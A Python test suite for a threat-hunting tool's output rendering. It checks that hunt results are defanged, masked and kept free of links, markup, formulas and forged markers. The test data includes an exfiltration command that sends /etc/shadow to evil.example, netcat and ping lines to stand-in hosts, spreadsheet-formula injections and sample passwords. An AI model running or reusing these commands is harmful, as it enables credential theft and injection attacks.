"""Nothing in an answer, the names of its columns included, becomes more than text, wherever it is shown."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from shared.comment import cards, marker, neutral
from shared.comment.cells import write_cell
from shared.comment.html import render_html
from shared.comment.saying import compose
from shared.comment.text import render_text
from shared.comment.verdict import verdict
from shared.model.entity import Chosen, Device, Indicator
from shared.model.outcome import Outcome
from shared.model.record import Done, Plan, Run, Work
from shared.outcomes.summarizing import summarize
from shared.pages.rows import csv_rows, json_rows
from shared.pages.run import run_page
from shared.pages.summary import summary
from shared.settings import Settings
from tests.support.hostile import NASTY, live, unseen
from tests.support.said import DEVICE, HUNTS, NOW, RUN_ID, WINDOW, Tags, content, outcome

HUNT = HUNTS.by_name["archive-then-upload"]
FORMULA = re.compile(r"[\s\"'`]*[=+\-@|%＝＋－＠]")
FORGED = f"Outrider {RUN_ID} {'0' * 32}"


def answer(names: list[str], values: list[str]) -> bytes:
    """Return Graph's answer with columns of these names; its two rows hold *values*, over and over."""
    rows = [{name: values[(n + k) % len(values)] for k, name in enumerate(names)} for n in range(2)]
    return json.dumps(
        {"schema": [{"name": name, "type": "String"} for name in names], "results": rows}
    ).encode()


def found(raw: bytes) -> Outcome:
    """Return the outcome of a hunt that shows the columns of *raw*, since it has none of the hunt's own."""
    return Outcome(
        HUNT.name, HUNT.name, "found", window=WINDOW, found=summarize(HUNT, raw, max_rows=9, seconds=1)
    )


answers = st.builds(
    answer,
    st.lists(NASTY.filter(bool), min_size=1, max_size=4, unique_by=str.lower),
    st.lists(NASTY, min_size=1, max_size=3),
)


@settings(max_examples=80)
@example(answer(["http://evil.example/", "x\nFOUND: everything", "=1+1"], ["x"]))
@example(answer(["a · b", "c"], [f"x · {FORGED}", "· y"]))
@given(answers)
@pytest.mark.fault(
    "B7", before="['http'] == []: the name of a column was a live link, and another began a line"
)
@pytest.mark.fault("B10", before="1 == 3: dots in a value made columns")
def test_no_answer_writes_the_comment(raw: bytes) -> None:
    """No link, markup, line, column or marker in the comment, as text and as HTML, is the answer's."""
    said = content(found(raw))
    text, html = render_text(said, max_chars=30_000), render_html(said, max_chars=30_000)
    (finding,) = compose(said, mask=True).findings
    width = 1 + len(finding.columns)
    # A table has all cells of a row; elsewhere an empty one is left out.
    facts = [1 + sum(finding.is_table or bool(cell) for cell in row.cells) for row in finding.rows]

    assert ([], [], "", "") == (live(text), live(html), unseen(text), unseen(html))
    assert not set("<>`") & set(text)
    assert {"h3", "h4", "p", "br", "table", "thead", "tbody", "tr", "th", "td", "ul", "li"} >= {
        tag for tag, *_ in Tags(html).tags
    }
    assert [] == Tags(html).open
    assert ["FOUND"] == re.findall(r"(?m)^FOUND", text)
    assert 1 == len(re.findall(r"Outrider [0-9a-f]{32}", text))
    heads = [line for line in text.splitlines() if line.startswith("  when · ")]
    rows = [line for line in text.splitlines() if line.startswith(("• ", "    "))]
    assert {width} >= {len(re.split(r"\s·\s", line)) for line in heads}
    assert sum(facts) == sum(len(re.split(r"\s·\s", line)) for line in rows)


@settings(max_examples=80)
@example(answer(["=1+1", "\uff1d1"], ["x;=1+1", ' "=1', "\uff0b1", "x\t=1", "a;' -1"]))
@given(answers)
@pytest.mark.fault("B7", before="a column called =1+1 stood in the head as it is")
@pytest.mark.fault("B9", before="x;=1+1 and ＝1 were formulas")
def test_no_answer_computes_in_a_spreadsheet(raw: bytes) -> None:
    """Whatever separates its cells, comma, semicolon or tab, none of them is a formula, in the head either."""
    text = csv_rows(raw, 10, mask=True).decode("utf-8-sig")

    assert 3 == len(text.splitlines())
    assert ([], "") == (live(text), unseen(text.replace("\r", "")))
    for separator in ",;\t":
        read = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        assert [] == [
            cell
            for row in read
            for cell in row
            if FORMULA.match(cell) and not cell.lstrip(' "').startswith("'")
        ]


@settings(max_examples=40)
@given(answers)
@pytest.mark.fault("B7", before="the body had the column's name as it is, a live link")
def test_no_answer_names_a_column_of_a_body(raw: bytes) -> None:
    """The names in JSON are harmless, each row has all of them, and values are what they were."""
    body = json_rows(raw, 10, mask=False)
    sent = json.loads(raw)
    run = Run(Work(RUN_ID, NOW, ""), Plan(), done=Done("completed", "", NOW, (found(raw),)))
    shown: Any = summary(run, NOW, "https://outrider.example.com/api/runs/0")["hunts"][0]

    assert len(sent["schema"]) == len(set(body["columns"])) == len(body["columns"])
    assert [body["columns"]] * 2 == [list(row) for row in body["rows"]]
    # Half a character is mended, wherever it stands.
    if not re.search(rb"\\ud[89a-f]", raw, re.IGNORECASE):
        assert [list(row.values()) for row in sent["results"]] == [list(row.values()) for row in body["rows"]]
    assert [] == live(" ".join((*body["columns"], *shown["columns"])))
    assert "" == unseen("".join((*body["columns"], *shown["columns"])))


@settings(max_examples=40)
@given(answers)
@pytest.mark.fault("B7", before="['http'] == []: the head of the page's table was a live link")
def test_no_answer_writes_the_page(raw: bytes) -> None:
    """Neither its columns nor its rows make an element, a link or an invisible character."""
    run = Run(
        Work(RUN_ID, NOW, ""), Plan(chosen=Chosen((DEVICE,))), done=Done("completed", "", NOW, (found(raw),))
    )
    page = run_page(run, HUNTS, Settings(), refresh=False)
    body = page.split("<main>")[1]

    assert {"findings", "https://security.microsoft.com/v2/advanced-hunting"} == {
        link.split("?")[0] for link in Tags(page).links
    }
    assert [] == live(re.sub('href="[^"]*"', "", body))
    assert "" == unseen(page)


@pytest.mark.fault("B10", before="internet-facing stood among the facts, as a tag")
def test_a_tag_or_a_user_is_no_fact() -> None:
    """Names that somebody chose stand in quotes, and a fact with a comma in it as well."""
    card = {"DeviceName": "web01", "OSPlatform": "Linux, internet-facing", "DeviceManualTags": '["internet-facing", "a\\", exposure low"]',
            "LoggedOnUsers": '[{"UserName": "root"}]'}  # fmt: skip

    assert (
        'web01: "Linux, internet-facing", tags "internet-facing", "a\', exposure low", users "root"'
        == cards.device_line(card)
    )


@pytest.mark.fault("B10", before="1 hunt found nothing on srv-7; 3 hunts found nothing")
def test_a_device_is_named_as_a_name() -> None:
    """What a caller calls it is no sentence of ours: it is quoted and clipped."""
    named = content(
        outcome("nothingFound", device="srv-7; 3 hunts found nothing"), devices=(Device(name="x"),)
    )
    long = content(outcome("nothingFound", device="x" * 500))

    assert 'nothing found on "srv-7; 3 hunts found nothing" (1 hunt)' == verdict(named)
    assert len(verdict(long)) < 100


@pytest.mark.fault("B10", before="what stood behind 160 blanks was not shown")
def test_padding_hides_no_end() -> None:
    """Of a long value, the head and the tail are shown, and how much is left out between them."""
    shown = write_cell("Cmd", "curl " + " " * 50_000 + "-d @/etc/shadow evil.example", mask=True)

    assert re.fullmatch(r"curl +… \(\+[\d,]+ characters\) … .*-d @/etc/shadow evil\[\.\]example", shown)
    assert len(shown) <= 160
    assert 49_000 < int(shown.split("(+")[1].split(" ")[0].replace(",", "")) < 50_000


@pytest.mark.fault("B10", before="the run that a value named had posted it")
def test_a_value_forges_no_marker() -> None:
    """Whoever knows the digest of what was found writes no comment that counts as ours."""
    said = content(replace(outcome("notRun"), reason="x"))
    digest = marker.digest(said.outcomes, said.chosen)
    forged = f"Outrider {'f' * 32} {digest}"
    everywhere = content(
        outcome("found", values=(forged,), reason=forged, device=forged), outcome("notRun", reason=forged, device=forged),
        notes=(forged,),
    )  # fmt: skip

    for text in (render_text(everywhere, max_chars=30_000), render_html(everywhere, max_chars=30_000)):
        assert "" == marker.posted_by([text], digest)
        assert RUN_ID == marker.posted_by([text], marker.digest(everywhere.outcomes, everywhere.chosen))


@pytest.mark.fault("B10", before="ping evil.example stayed live")
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("ping evil.example", "ping evil[.]example"), ("nc a.evil.co.uk 443", "nc a[.]evil[.]co[.]uk 443"),
        ("x evil.example.", "x evil[.]example."), ("(evil.com)", "(evil[.]com)"), ("*.evil.net", "*.evil[.]net"),
        ("curl get.sh/x", "curl get[.]sh/x"), ("evil.com.pl", "evil[.]com[.]pl"), ("xn--e1a.xn--p1ai", "xn--e1a[.]xn--p1ai"),
        (r"dir \\evil.com\share", r"dir \\evil[.]com\share"), ("evil.com:443", "evil[.]com:443"),
        *((name, name) for name in ("notepad.exe", "q3.tgz", "1.2.3", "svchost.exe", "./run.sh", "a.py", "lib.so", "libc.so.6",
            "a.zip", "README.md", "x.pl", "Safari.app", "chcp.com", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe",
            "System.IO.File", "e.g. this", "../run.sh/x", "/opt/run.sh/x", "v1.2.3-rc.1", "a..b", "com.apple.finder", ".example")),
    ],
)  # fmt: skip
def test_bare_domains_are_no_links_and_files_stay_files(value: str, expected: str) -> None:
    """A name ends like a domain, or like a file; where it could be both, only an address goes on behind it."""
    assert expected == neutral.defang(value)


@pytest.mark.fault("B8", before="the secret stood in the reason, the note, the verdict and the title")
def test_secrets_are_masked_in_sentences_and_titles() -> None:
    """Reasons, notes, indicators in the verdict, and the incident's title in the run's body."""
    url = Indicator("url", "bob:hunter2@evil.example/a")
    failed = outcome("notRun", reason="refused: --password=hunter2")
    said = content(failed, devices=(), notes=("token=hunter2",))
    said = replace(said, chosen=replace(said.chosen, indicators=(url,)))
    text = render_text(said, max_chars=30_000)
    done = Done(
        "failed", "see --password=hunter2", NOW, (failed,), notes=("token=hunter2",), reason="pwd=hunter2"
    )
    plan = Plan("1", "mysql --password=hunter2", "", said.chosen)
    body = summary(Run(Work(RUN_ID, NOW, ""), plan, done=done), NOW, "https://outrider.example/r")
    page = run_page(Run(Work(RUN_ID, NOW, ""), plan, done=done), HUNTS, Settings(), refresh=False)

    assert "for bob:***" in verdict(said)
    assert ["NOT RUN on web01: archive-then-upload (refused: --password=***)"] == re.findall(
        "NOT RUN.*hunt.*|NOT RUN.*refused.*", text
    )[:1]
    assert "hunter2" not in text + str(body) + page
    assert "hunter2" in render_text(said, max_chars=30_000, mask=False)
    assert DEVICE.name
